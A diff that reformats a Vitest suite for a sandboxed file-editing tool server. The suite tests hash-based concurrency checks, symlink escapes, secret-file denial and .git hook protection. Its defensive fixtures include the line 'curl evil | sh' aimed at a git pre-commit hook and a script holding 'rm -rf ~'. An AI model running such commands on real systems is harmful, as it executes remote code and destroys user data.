@@ -20,7 +20,19 @@
  *  - dry_run of write_file/edit_file returns the would-be hash and writes nothing.
  * Every rejection asserts the code and that the bytes, modes and listings involved are unchanged.
  */
-import { chmodSync, existsSync, linkSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  existsSync,
+  linkSync,
+  lstatSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+} from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it, test } from 'vitest';
 import { expectCode } from '../helpers/protocol-asserts.js';
@@ -33,7 +45,10 @@ const MUTATING_TOOLS = ['write_file', 'edit_file', 'apply_patch', 'move_path', '
 /** A server of `era` over a fresh root R, with its own state dir, plus an outside directory O. */
 function useServer(era: Era, flags: string[] = []) {
   const env = {
-    R: '', O: '', client: undefined as unknown as TestClient, n: 0,
+    R: '',
+    O: '',
+    client: undefined as unknown as TestClient,
+    n: 0,
     cleanups: [] as Array<() => void>,
   };
   beforeAll(async () => {
@@ -53,9 +68,15 @@ function useServer(era: Era, flags: string[] = []) {
     expect(stderr).not.toMatch(/INTERNAL|incident/);
   });
   return {
-    get client() { return env.client; },
-    get R() { return env.R; },
-    get O() { return env.O; },
+    get client() {
+      return env.client;
+    },
+    get R() {
+      return env.R;
+    },
+    get O() {
+      return env.O;
+    },
     /** A fresh directory under R holding `spec`. */
     area(spec: TreeSpec = {}): string {
       const d = path.join(env.R, `t${++env.n}`);
@@ -85,7 +106,9 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       const read = await s.client.callOk('read_file', { path: f });
       expect(read.content_hash).toBe(contentHash('alpha\nbeta\n'));
       const r = await s.client.callOk('edit_file', {
-        path: f, edits: [{ old_text: 'beta', new_text: 'gamma' }], expected_hash: read.content_hash,
+        path: f,
+        edits: [{ old_text: 'beta', new_text: 'gamma' }],
+        expected_hash: read.content_hash,
       });
       expect(bytesOf(f).toString()).toBe('alpha\ngamma\n');
       expect(r.previous_hash).toBe(read.content_hash);
@@ -99,25 +122,36 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       expect(bytesOf(f).toString()).toBe('alpha\ndelta\n');
     });
 
-    test.each([['explicit expected_hash', true], ['remembered hash (auto-occ block)', false]])(
-      'an external write between read and edit is OCC_MISMATCH (%s)', async (_label, explicit) => {
-        const f = path.join(s.area({ 'f.txt': 'l1\nl2\nl3\nl4\nl5\n' }), 'f.txt');
-        const read = await s.client.callOk('read_file', { path: f });
-        const external = 'l1\nl2\nL3 changed elsewhere\nl4\nl5\n';
-        writeFileSync(f, external);
-        const before = snapshotTree(path.dirname(f), { withMtime: true });
-        const e = expectCode(await s.client.call('edit_file', {
-          path: f, edits: [{ old_text: 'l1', new_text: 'L1' }], ...(explicit ? { expected_hash: read.content_hash } : {}),
-        }), 'OCC_MISMATCH');
-        expect(e.error.retryable).toBe(true);
-        expect(e.error.recovery).toBe('read_and_rebase');
-        expect(e.error.path).toBe(f);
-        expect(e.error.expected_hash).toBe(read.content_hash);
-        expect(e.error.current_hash).toBe(contentHash(external));
-        expect(e.error.conflict).toEqual({ reason: 'modified', changed_ranges: [[3, 3]], bytes_delta: external.length - 15 });
-        expect(bytesOf(f).toString()).toBe(external);
-        expect(snapshotTree(path.dirname(f), { withMtime: true })).toEqual(before);
+    test.each([
+      ['explicit expected_hash', true],
+      ['remembered hash (auto-occ block)', false],
+    ])('an external write between read and edit is OCC_MISMATCH (%s)', async (_label, explicit) => {
+      const f = path.join(s.area({ 'f.txt': 'l1\nl2\nl3\nl4\nl5\n' }), 'f.txt');
+      const read = await s.client.callOk('read_file', { path: f });
+      const external = 'l1\nl2\nL3 changed elsewhere\nl4\nl5\n';
+      writeFileSync(f, external);
+      const before = snapshotTree(path.dirname(f), { withMtime: true });
+      const e = expectCode(
+        await s.client.call('edit_file', {
+          path: f,
+          edits: [{ old_text: 'l1', new_text: 'L1' }],
+          ...(explicit ? { expected_hash: read.content_hash } : {}),
+        }),
+        'OCC_MISMATCH',
+      );
+      expect(e.error.retryable).toBe(true);
+      expect(e.error.recovery).toBe('read_and_rebase');
+      expect(e.error.path).toBe(f);
+      expect(e.error.expected_hash).toBe(read.content_hash);
+      expect(e.error.current_hash).toBe(contentHash(external));
+      expect(e.error.conflict).toEqual({
+        reason: 'modified',
+        changed_ranges: [[3, 3]],
+        bytes_delta: external.length - 15,
       });
+      expect(bytesOf(f).toString()).toBe(external);
+      expect(snapshotTree(path.dirname(f), { withMtime: true })).toEqual(before);
+    });
 
     it('a blind write_file to an unread existing file is HASH_REQUIRED with the real current_hash', async () => {
       const d = s.area({ 'f.txt': 'original\n' });
@@ -129,7 +163,11 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       expect(e.error.recovery).toBe('read_and_rebase');
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
       // The hash from the envelope is enough to proceed.
-      const ok = await s.client.callOk('write_file', { path: f, content: 'replaced\n', expected_hash: e.error.details.current_hash });
+      const ok = await s.client.callOk('write_file', {
+        path: f,
+        content: 'replaced\n',
+        expected_hash: e.error.details.current_hash,
+      });
       expect(ok.created).toBe(false);
       expect(bytesOf(f).toString()).toBe('replaced\n');
     });
@@ -137,9 +175,10 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     test.each(['edit_file', 'delete_path'])('%s of an unread file is HASH_REQUIRED too', async (tool) => {
       const d = s.area({ 'f.txt': 'x\n' });
       const before = snapshotTree(d, { withMtime: true });
-      const args = tool === 'edit_file'
-        ? { path: path.join(d, 'f.txt'), edits: [{ old_text: 'x', new_text: 'y' }] }
-        : { path: path.join(d, 'f.txt') };
+      const args =
+        tool === 'edit_file'
+          ? { path: path.join(d, 'f.txt'), edits: [{ old_text: 'x', new_text: 'y' }] }
+          : { path: path.join(d, 'f.txt') };
       expectCode(await s.client.call(tool, args), 'HASH_REQUIRED');
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
     });
@@ -147,14 +186,20 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     it('expected_hash "absent" on an existing file is OCC_MISMATCH reason created', async () => {
       const d = s.area({ 'f.txt': 'exists\n' });
       const before = snapshotTree(d, { withMtime: true });
-      const e = expectCode(await s.client.call('write_file', { path: path.join(d, 'f.txt'), content: 'new\n', expected_hash: 'absent' }),
-        'OCC_MISMATCH');
+      const e = expectCode(
+        await s.client.call('write_file', { path: path.join(d, 'f.txt'), content: 'new\n', expected_hash: 'absent' }),
+        'OCC_MISMATCH',
+      );
       expect(e.error.conflict).toMatchObject({ reason: 'created' });
       expect(e.error.expected_hash).toBe('absent');
       expect(e.error.current_hash).toBe(contentHash('exists\n'));
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
       // and "absent" on a missing file creates it
-      const ok = await s.client.callOk('write_file', { path: path.join(d, 'g.txt'), content: 'g\n', expected_hash: 'absent' });
+      const ok = await s.client.callOk('write_file', {
+        path: path.join(d, 'g.txt'),
+        content: 'g\n',
+        expected_hash: 'absent',
+      });
       expect(ok.created).toBe(true);
     });
 
@@ -163,7 +208,10 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       const f = path.join(d, 'f.txt');
       const read = await s.client.callOk('read_file', { path: f });
       rmSync(f);
-      const e = expectCode(await s.client.call('write_file', { path: f, content: 'x\n', expected_hash: read.content_hash }), 'OCC_MISMATCH');
+      const e = expectCode(
+        await s.client.call('write_file', { path: f, content: 'x\n', expected_hash: read.content_hash }),
+        'OCC_MISMATCH',
+      );
       expect(e.error.conflict).toMatchObject({ reason: 'deleted' });
       expect(e.error.current_hash).toBe(null);
       // issue 21: a deleted file cannot be re-read: not retryable, recovery fix_arguments (re-create with "absent").
@@ -185,11 +233,31 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     }
 
     test.each<[string, string, Array<Record<string, unknown>>, string]>([
-      ['CRLF stays CRLF', 'one\r\ntwo\r\nthree\r\n', [{ old_text: 'two\n', new_text: 'TWO\nTWO-B\n' }], 'one\r\nTWO\r\nTWO-B\r\nthree\r\n'],
-      ['mixed EOL: untouched lines keep theirs', 'a\r\nb\nc\r\nd\n', [{ old_text: 'c', new_text: 'C' }], 'a\r\nb\nC\r\nd\n'],
-      ['UTF-8 BOM survives', '\uFEFFbom first\nsecond\n', [{ old_text: 'bom first', new_text: 'BOM FIRST' }], '\uFEFFBOM FIRST\nsecond\n'],
+      [
+        'CRLF stays CRLF',
+        'one\r\ntwo\r\nthree\r\n',
+        [{ old_text: 'two\n', new_text: 'TWO\nTWO-B\n' }],
+        'one\r\nTWO\r\nTWO-B\r\nthree\r\n',
+      ],
+      [
+        'mixed EOL: untouched lines keep theirs',
+        'a\r\nb\nc\r\nd\n',
+        [{ old_text: 'c', new_text: 'C' }],
+        'a\r\nb\nC\r\nd\n',
+      ],
+      [
+        'UTF-8 BOM survives',
+        '\uFEFFbom first\nsecond\n',
+        [{ old_text: 'bom first', new_text: 'BOM FIRST' }],
+        '\uFEFFBOM FIRST\nsecond\n',
+      ],
       ['no final newline stays none', 'a\nb', [{ old_text: 'b', new_text: 'B' }], 'a\nB'],
-      ['Bäcker € round-trips', 'Bäcker €\n', [{ old_text: 'Bäcker', new_text: 'Bäcker € Müller' }], 'Bäcker € Müller €\n'],
+      [
+        'Bäcker € round-trips',
+        'Bäcker €\n',
+        [{ old_text: 'Bäcker', new_text: 'Bäcker € Müller' }],
+        'Bäcker € Müller €\n',
+      ],
     ])('edit_file: %s', async (_label, initial, edits, expected) => {
       expect(await edit(initial, edits)).toEqual(Buffer.from(expected, 'utf8'));
     });
@@ -217,7 +285,11 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       expect(modeOf(f)).toBe(0o755);
       expect(bytesOf(f).toString()).toBe('#!/bin/sh\necho three\n');
       chmodSync(f, 0o600);
-      await s.client.callOk('write_file', { path: f, content: 'private\n', expected_hash: contentHash('#!/bin/sh\necho three\n') });
+      await s.client.callOk('write_file', {
+        path: f,
+        content: 'private\n',
+        expected_hash: contentHash('#!/bin/sh\necho three\n'),
+      });
       expect(modeOf(f)).toBe(0o600);
     });
 
@@ -225,9 +297,14 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       const bytes = Buffer.from([0x41, 0xc3, 0x28, 0x0a, 0xff, 0x42, 0x0a]);
       const d = s.area({ 'bin.txt': bytes });
       const before = snapshotTree(d, { withMtime: true });
-      const e = expectCode(await s.client.call('edit_file', {
-        path: path.join(d, 'bin.txt'), edits: [{ old_text: 'B', new_text: 'C' }], expected_hash: contentHash(bytes),
-      }), 'VALIDATION');
+      const e = expectCode(
+        await s.client.call('edit_file', {
+          path: path.join(d, 'bin.txt'),
+          edits: [{ old_text: 'B', new_text: 'C' }],
+          expected_hash: contentHash(bytes),
+        }),
+        'VALIDATION',
+      );
       expect(e.error.details.reason).toBe('binary');
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
     });
@@ -240,7 +317,7 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       return { d, f: path.join(d, 'f.txt') };
     }
 
-    it('inserts $&, $$, $` and $\' literally', async () => {
+    it("inserts $&, $$, $` and $' literally", async () => {
       const { f } = await fileWith('price = X;\n');
       const newText = "$& $$ $` $' $1";
       await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'X', new_text: newText }] });
@@ -250,13 +327,19 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     it('ambiguous old_text is PATCH_FAILED with count 2, file unchanged', async () => {
       const { f, d } = await fileWith('x = 1;\ny = 2;\nx = 1;\n');
       const before = snapshotTree(d, { withMtime: true });
-      const e = expectCode(await s.client.call('edit_file', { path: f, edits: [{ old_text: 'x = 1;', new_text: 'x = 9;' }] }), 'PATCH_FAILED');
+      const e = expectCode(
+        await s.client.call('edit_file', { path: f, edits: [{ old_text: 'x = 1;', new_text: 'x = 9;' }] }),
+        'PATCH_FAILED',
+      );
       expect(e.error.details).toMatchObject({ reason: 'ambiguous', count: 2, candidates: [1, 3], edit_index: 0 });
       expect(e.error.details.current_hash).toBe(contentHash('x = 1;\ny = 2;\nx = 1;\n'));
       expect(e.error.retryable).toBe(false);
       expect(e.error.recovery).toBe('read_and_rebase');
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
-      await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'x = 1;', new_text: 'x = 9;', replace_all: true }] });
+      await s.client.callOk('edit_file', {
+        path: f,
+        edits: [{ old_text: 'x = 1;', new_text: 'x = 9;', replace_all: true }],
+      });
       expect(bytesOf(f).toString()).toBe('x = 9;\ny = 2;\nx = 9;\n');
     });
 
@@ -270,11 +353,17 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     it('edit 3 of 3 failing leaves the file untouched', async () => {
       const { f, d } = await fileWith('one\ntwo\nthree\n');
       const before = snapshotTree(d, { withMtime: true });
-      const e = expectCode(await s.client.call('edit_file', {
-        path: f, edits: [
-          { old_text: 'one', new_text: 'ONE' }, { old_text: 'two', new_text: 'TWO' }, { old_text: 'four', new_text: 'FOUR' },
-        ],
-      }), 'PATCH_FAILED');
+      const e = expectCode(
+        await s.client.call('edit_file', {
+          path: f,
+          edits: [
+            { old_text: 'one', new_text: 'ONE' },
+            { old_text: 'two', new_text: 'TWO' },
+            { old_text: 'four', new_text: 'FOUR' },
+          ],
+        }),
+        'PATCH_FAILED',
+      );
       expect(e.error.details.reason).toBe('no_match');
       expect(e.error.details.edit_index).toBe(2);
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
@@ -283,9 +372,13 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     it('an indentation difference is no_match with a whitespace-only first difference', async () => {
       const { f, d } = await fileWith('function f() {\n  return 1;\n}\n');
       const before = snapshotTree(d, { withMtime: true });
-      const e = expectCode(await s.client.call('edit_file', {
-        path: f, edits: [{ old_text: 'function f() {\n    return 1;', new_text: 'function f() {\n    return 2;' }],
-      }), 'PATCH_FAILED');
+      const e = expectCode(
+        await s.client.call('edit_file', {
+          path: f,
+          edits: [{ old_text: 'function f() {\n    return 1;', new_text: 'function f() {\n    return 2;' }],
+        }),
+        'PATCH_FAILED',
+      );
       expect(e.error.details.reason).toBe('no_match');
       expect(e.error.details.nearest.first_difference).toMatchObject({ line: 2, whitespace_only: true });
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
@@ -309,7 +402,11 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     ])('REWRITE_BLOCKED threshold: %s', async (_label, content, k, allowRewrite, blocked) => {
       const { f, d } = await fileWith(content);
       const before = snapshotTree(d, { withMtime: true });
-      const call = await s.client.call('edit_file', { path: f, edits: [replaceFirst(content, k)], allow_rewrite: allowRewrite });
+      const call = await s.client.call('edit_file', {
+        path: f,
+        edits: [replaceFirst(content, k)],
+        allow_rewrite: allowRewrite,
+      });
       if (blocked) {
         const e = expectCode(call, 'REWRITE_BLOCKED');
         expect(e.error.details).toMatchObject({ threshold: 0.9, min_lines: 10, lines: 10 });
@@ -323,7 +420,10 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
 
   describe('escapes from the roots', () => {
     /** Runs `call` expecting NOT_ALLOWED, and checks O and the area are unchanged. */
-    async function refused(area: string, call: () => Promise<import('../helpers/server.js').CallResult>): Promise<void> {
+    async function refused(
+      area: string,
+      call: () => Promise<import('../helpers/server.js').CallResult>,
+    ): Promise<void> {
       const outsideBefore = snapshotTree(s.O, { withMtime: true });
       const areaBefore = snapshotTree(area, { withMtime: true });
       expectCode(await call(), 'NOT_ALLOWED');
@@ -334,15 +434,29 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     it('write_file through R/link → O/f is NOT_ALLOWED', async () => {
       const o = s.outside({ f: 'outside bytes\n' });
       const d = s.area({ link: symlink(path.join(o, 'f')) });
-      await refused(d, () => s.client.call('write_file', { path: path.join(d, 'link'), content: 'pwned\n', expected_hash: contentHash('outside bytes\n') }));
-      await refused(d, () => s.client.call('edit_file', { path: path.join(d, 'link'), edits: [{ old_text: 'outside', new_text: 'pwned' }], expected_hash: contentHash('outside bytes\n') }));
+      await refused(d, () =>
+        s.client.call('write_file', {
+          path: path.join(d, 'link'),
+          content: 'pwned\n',
+          expected_hash: contentHash('outside bytes\n'),
+        }),
+      );
+      await refused(d, () =>
+        s.client.call('edit_file', {
+          path: path.join(d, 'link'),
+          edits: [{ old_text: 'outside', new_text: 'pwned' }],
+          expected_hash: contentHash('outside bytes\n'),
+        }),
+      );
     });
 
     it('write_file through a dangling R/new → O/absent creates nothing in O', async () => {
       const o = s.outside();
       const d = s.area({ new: symlink(path.join(o, 'absent')) });
       await refused(d, () => s.client.call('write_file', { path: path.join(d, 'new'), content: 'pwned\n' }));
-      await refused(d, () => s.client.call('write_file', { path: path.join(d, 'new'), content: 'pwned\n', expected_hash: 'absent' }));
+      await refused(d, () =>
+        s.client.call('write_file', { path: path.join(d, 'new'), content: 'pwned\n', expected_hash: 'absent' }),
+      );
       expect(existsSync(path.join(o, 'absent'))).toBe(false);
     });
 
@@ -350,13 +464,17 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       const o = s.outside();
       const d = s.area({ d: symlink(o) });
       await refused(d, () => s.client.call('write_file', { path: path.join(d, 'd', 'x'), content: 'pwned\n' }));
-      await refused(d, () => s.client.call('write_file', { path: path.join(d, 'd', 'sub', 'x'), content: 'pwned\n', create_dirs: true }));
+      await refused(d, () =>
+        s.client.call('write_file', { path: path.join(d, 'd', 'sub', 'x'), content: 'pwned\n', create_dirs: true }),
+      );
     });
 
     it('write_file with create_dirs through a dangling directory link is NOT_ALLOWED', async () => {
       const o = s.outside();
       const d = s.area({ dl: symlink(path.join(o, 'missing-dir')) });
-      await refused(d, () => s.client.call('write_file', { path: path.join(d, 'dl', 'x'), content: 'pwned\n', create_dirs: true }));
+      await refused(d, () =>
+        s.client.call('write_file', { path: path.join(d, 'dl', 'x'), content: 'pwned\n', create_dirs: true }),
+      );
       expect(existsSync(path.join(o, 'missing-dir'))).toBe(false);
     });
 
@@ -370,16 +488,25 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     it('move_path and delete_path cannot reach through a directory link to O', async () => {
       const o = s.outside({ f: 'outside\n' });
       const d = s.area({ d: symlink(o), 'mine.txt': 'mine\n' });
-      await refused(d, () => s.client.call('move_path', { source: path.join(d, 'mine.txt'), destination: path.join(d, 'd', 'moved.txt') }));
-      await refused(d, () => s.client.call('move_path', { source: path.join(d, 'd', 'f'), destination: path.join(d, 'stolen.txt') }));
-      await refused(d, () => s.client.call('delete_path', { path: path.join(d, 'd', 'f'), expected_hash: contentHash('outside\n') }));
+      await refused(d, () =>
+        s.client.call('move_path', { source: path.join(d, 'mine.txt'), destination: path.join(d, 'd', 'moved.txt') }),
+      );
+      await refused(d, () =>
+        s.client.call('move_path', { source: path.join(d, 'd', 'f'), destination: path.join(d, 'stolen.txt') }),
+      );
+      await refused(d, () =>
+        s.client.call('delete_path', { path: path.join(d, 'd', 'f'), expected_hash: contentHash('outside\n') }),
+      );
     });
 
     it('delete_path and move_path of R/link → O/f act on the link; O/f stays', async () => {
       const o = s.outside({ f: 'outside bytes\n' });
       const d = s.area({ link: symlink(path.join(o, 'f')), link2: symlink(path.join(o, 'f')) });
       const outsideBefore = snapshotTree(s.O, { withMtime: true });
-      const moved = await s.client.callOk('move_path', { source: path.join(d, 'link2'), destination: path.join(d, 'moved-link') });
+      const moved = await s.client.callOk('move_path', {
+        source: path.join(d, 'link2'),
+        destination: path.join(d, 'moved-link'),
+      });
       expect(moved.content_hash).toBe(null);
       const r = await s.client.callOk('delete_path', { path: path.join(d, 'link') });
       expect(r.type).toBe('symlink');
@@ -403,7 +530,11 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       const d = s.area();
       linkSync(path.join(o, 'f'), path.join(d, 'hl'));
       const outsideBefore = snapshotTree(s.O, { withMtime: true });
-      const call = await s.client.call('write_file', { path: path.join(d, 'hl'), content: 'new content\n', expected_hash: contentHash('outside original\n') });
+      const call = await s.client.call('write_file', {
+        path: path.join(d, 'hl'),
+        content: 'new content\n',
+        expected_hash: contentHash('outside original\n'),
+      });
       // The rename replaces the directory entry R/hl; the shared inode (O/f) is never written through.
       expect(call.isError, call.content[0]?.text).toBeFalsy();
       expect(bytesOf(path.join(d, 'hl')).toString()).toBe('new content\n');
@@ -417,19 +548,38 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     it('move_path onto an existing destination is refused unless overwrite with the destination hash', async () => {
       const d = s.area({ 'a.txt': 'source\n', 'b.txt': 'destination\n' });
       const before = snapshotTree(d, { withMtime: true });
-      const e = expectCode(await s.client.call('move_path', { source: path.join(d, 'a.txt'), destination: path.join(d, 'b.txt') }), 'VALIDATION');
+      const e = expectCode(
+        await s.client.call('move_path', { source: path.join(d, 'a.txt'), destination: path.join(d, 'b.txt') }),
+        'VALIDATION',
+      );
       expect(e.error.details.reason).toBe('destination_exists');
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
       // overwrite without any hash of the unread destination: HASH_REQUIRED, still nothing moved
-      expectCode(await s.client.call('move_path', { source: path.join(d, 'a.txt'), destination: path.join(d, 'b.txt'), overwrite: true }), 'HASH_REQUIRED');
+      expectCode(
+        await s.client.call('move_path', {
+          source: path.join(d, 'a.txt'),
+          destination: path.join(d, 'b.txt'),
+          overwrite: true,
+        }),
+        'HASH_REQUIRED',
+      );
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
       // overwrite with a wrong hash: OCC_MISMATCH
-      expectCode(await s.client.call('move_path', {
-        source: path.join(d, 'a.txt'), destination: path.join(d, 'b.txt'), overwrite: true, expected_hash: contentHash('other\n'),
-      }), 'OCC_MISMATCH');
+      expectCode(
+        await s.client.call('move_path', {
+          source: path.join(d, 'a.txt'),
+          destination: path.join(d, 'b.txt'),
+          overwrite: true,
+          expected_hash: contentHash('other\n'),
+        }),
+        'OCC_MISMATCH',
+      );
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
       const r = await s.client.callOk('move_path', {
-        source: path.join(d, 'a.txt'), destination: path.join(d, 'b.txt'), overwrite: true, expected_hash: contentHash('destination\n'),
+        source: path.join(d, 'a.txt'),
+        destination: path.join(d, 'b.txt'),
+        overwrite: true,
+        expected_hash: contentHash('destination\n'),
       });
       expect(r.overwritten).toBe(true);
       expect(r.previous_destination_hash).toBe(contentHash('destination\n'));
@@ -439,10 +589,18 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
 
     it('moving a symlink moves the link, not its target', async () => {
       const o = s.outside({ 'target.txt': 'outside target\n' });
-      const d = s.area({ 'target.txt': 'inside target\n', link: symlink('target.txt'), out: symlink(path.join(o, 'target.txt')), sub: {} });
+      const d = s.area({
+        'target.txt': 'inside target\n',
+        link: symlink('target.txt'),
+        out: symlink(path.join(o, 'target.txt')),
+        sub: {},
+      });
       const outsideBefore = snapshotTree(s.O, { withMtime: true });
       const targetBefore = lstatSync(path.join(d, 'target.txt'));
-      const r = await s.client.callOk('move_path', { source: path.join(d, 'link'), destination: path.join(d, 'link2') });
+      const r = await s.client.callOk('move_path', {
+        source: path.join(d, 'link'),
+        destination: path.join(d, 'link2'),
+      });
       expect(r.type).toBe('symlink');
       expect(existsSync(path.join(d, 'link'))).toBe(false);
       expect(lstatSync(path.join(d, 'link2')).isSymbolicLink()).toBe(true);
@@ -483,7 +641,10 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     it('a recursive delete of a tree holding a .env is SECRET_DENIED and deletes nothing', async () => {
       const d = s.area({ proj: { 'a.txt': 'a\n', deep: { '.env': 'TOKEN=x\n', 'b.txt': 'b\n' } } });
       const before = snapshotTree(d, { withMtime: true });
-      const e = expectCode(await s.client.call('delete_path', { path: path.join(d, 'proj'), recursive: true }), 'SECRET_DENIED');
+      const e = expectCode(
+        await s.client.call('delete_path', { path: path.join(d, 'proj'), recursive: true }),
+        'SECRET_DENIED',
+      );
       expect(JSON.stringify(e)).not.toContain('TOKEN=x');
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
     });
@@ -491,8 +652,15 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
     it('move_path neither moves a secret nor creates one', async () => {
       const d = s.area({ '.env': 'TOKEN=1\n', 'a.txt': 'a\n' });
       const before = snapshotTree(d, { withMtime: true });
-      for (const [source, destination] of [['.env', 'env.txt'], ['a.txt', '.env.local'], ['a.txt', 'id_rsa']]) {
-        const e = expectCode(await s.client.call('move_path', { source: path.join(d, source), destination: path.join(d, destination) }), 'SECRET_DENIED');
+      for (const [source, destination] of [
+        ['.env', 'env.txt'],
+        ['a.txt', '.env.local'],
+        ['a.txt', 'id_rsa'],
+      ]) {
+        const e = expectCode(
+          await s.client.call('move_path', { source: path.join(d, source), destination: path.join(d, destination) }),
+          'SECRET_DENIED',
+        );
         expect(JSON.stringify(e)).not.toContain('TOKEN=1');
       }
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
@@ -518,15 +686,24 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
   describe('.git is never written', () => {
     it('.git/hooks/pre-commit cannot be written, moved onto or into, or deleted', async () => {
       const hook = '#!/bin/sh\nexit 0\n';
-      const d = s.area({ '.git': { hooks: { 'pre-commit': hook }, HEAD: 'ref: refs/heads/main\n' }, 'evil.sh': '#!/bin/sh\nrm -rf ~\n' });
+      const d = s.area({
+        '.git': { hooks: { 'pre-commit': hook }, HEAD: 'ref: refs/heads/main\n' },
+        'evil.sh': '#!/bin/sh\nrm -rf ~\n',
+      });
       chmodSync(path.join(d, '.git/hooks/pre-commit'), 0o755);
       const pre = path.join(d, '.git', 'hooks', 'pre-commit');
       const before = snapshotTree(d, { withMtime: true });
       const attempts: Array<[string, Record<string, unknown>]> = [
         ['write_file', { path: pre, content: 'curl evil | sh\n', expected_hash: contentHash(hook) }],
         ['write_file', { path: path.join(d, '.git', 'hooks', 'post-checkout'), content: 'curl evil | sh\n' }],
-        ['edit_file', { path: pre, edits: [{ old_text: 'exit 0', new_text: 'curl evil | sh' }], expected_hash: contentHash(hook) }],
-        ['move_path', { source: path.join(d, 'evil.sh'), destination: pre, overwrite: true, expected_hash: contentHash(hook) }],
+        [
+          'edit_file',
+          { path: pre, edits: [{ old_text: 'exit 0', new_text: 'curl evil | sh' }], expected_hash: contentHash(hook) },
+        ],
+        [
+          'move_path',
+          { source: path.join(d, 'evil.sh'), destination: pre, overwrite: true, expected_hash: contentHash(hook) },
+        ],
         ['move_path', { source: path.join(d, 'evil.sh'), destination: path.join(d, '.git', 'hooks', 'post-merge') }],
         ['move_path', { source: pre, destination: path.join(d, 'stolen-hook') }],
         ['delete_path', { path: pre, expected_hash: contentHash(hook) }],
@@ -548,10 +725,19 @@ describe.each(ERAS)('mutations (%s era)', (era) => {
       await s.client.callOk('read_file', { path: f });
       const before = snapshotTree(d, { withMtime: true });
       const w = await s.client.callOk('write_file', { path: f, content: 'whole\n', dry_run: true });
-      expect(w).toMatchObject({ dry_run: true, content_hash: contentHash('whole\n'), previous_hash: contentHash('a\nb\n'), created: false });
+      expect(w).toMatchObject({
+        dry_run: true,
+        content_hash: contentHash('whole\n'),
+        previous_hash: contentHash('a\nb\n'),
+        created: false,
+      });
       const n = await s.client.callOk('write_file', { path: path.join(d, 'new.txt'), content: 'n\n', dry_run: true });
       expect(n).toMatchObject({ dry_run: true, created: true, content_hash: contentHash('n\n') });
-      const e = await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'b', new_text: 'B' }], dry_run: true });
+      const e = await s.client.callOk('edit_file', {
+        path: f,
+        edits: [{ old_text: 'b', new_text: 'B' }],
+        dry_run: true,
+      });
       expect(e).toMatchObject({ dry_run: true, content_hash: contentHash('a\nB\n'), replacements: 1 });
       expect(e.diff).toContain('+B');
       const m = await s.client.callOk('move_path', { source: f, destination: path.join(d, 'g.txt'), dry_run: true });
@@ -585,7 +771,10 @@ describe.each(ERAS)('process flags (%s era)', (era) => {
       expect(bytesOf(path.join(d, 'g.txt')).toString()).toBe('written\n');
       // An explicit expected_hash still binds.
       const before = snapshotTree(d, { withMtime: true });
-      expectCode(await s.client.call('write_file', { path: f, content: 'x\n', expected_hash: contentHash('stale\n') }), 'OCC_MISMATCH');
+      expectCode(
+        await s.client.call('write_file', { path: f, content: 'x\n', expected_hash: contentHash('stale\n') }),
+        'OCC_MISMATCH',
+      );
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
     });
   });
@@ -599,10 +788,20 @@ describe.each(ERAS)('process flags (%s era)', (era) => {
       expect(bytesOf(path.join(d, 'f.txt')).toString()).toBe('written\n');
       await s.client.callOk('read_file', { path: path.join(d, 'g.txt') });
       writeFileSync(path.join(d, 'g.txt'), 'one\nexternal\n');
-      await s.client.callOk('edit_file', { path: path.join(d, 'g.txt'), edits: [{ old_text: 'one', new_text: 'ONE' }] });
+      await s.client.callOk('edit_file', {
+        path: path.join(d, 'g.txt'),
+        edits: [{ old_text: 'one', new_text: 'ONE' }],
+      });
       expect(bytesOf(path.join(d, 'g.txt')).toString()).toBe('ONE\nexternal\n');
       const before = snapshotTree(d, { withMtime: true });
-      expectCode(await s.client.call('write_file', { path: path.join(d, 'f.txt'), content: 'x\n', expected_hash: contentHash('stale\n') }), 'OCC_MISMATCH');
+      expectCode(
+        await s.client.call('write_file', {
+          path: path.join(d, 'f.txt'),
+          content: 'x\n',
+          expected_hash: contentHash('stale\n'),
+        }),
+        'OCC_MISMATCH',
+      );
       expect(snapshotTree(d, { withMtime: true })).toEqual(before);
     });
   });
@@ -642,7 +841,10 @@ describe.each(ERAS)('process flags (%s era)', (era) => {
       const f = path.join(d, 'f.txt');
